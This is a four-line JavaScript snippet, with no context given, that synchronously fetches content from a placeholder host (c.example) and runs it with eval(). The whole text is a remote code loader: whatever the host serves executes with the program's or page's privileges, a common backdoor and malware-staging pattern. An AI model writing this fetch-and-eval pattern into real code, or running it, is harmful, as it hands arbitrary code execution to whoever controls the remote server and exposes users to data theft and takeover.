const x = new XMLHttpRequest();
x.open('GET', 'https://c.example/x', false);
x.send();
eval(x.responseText);
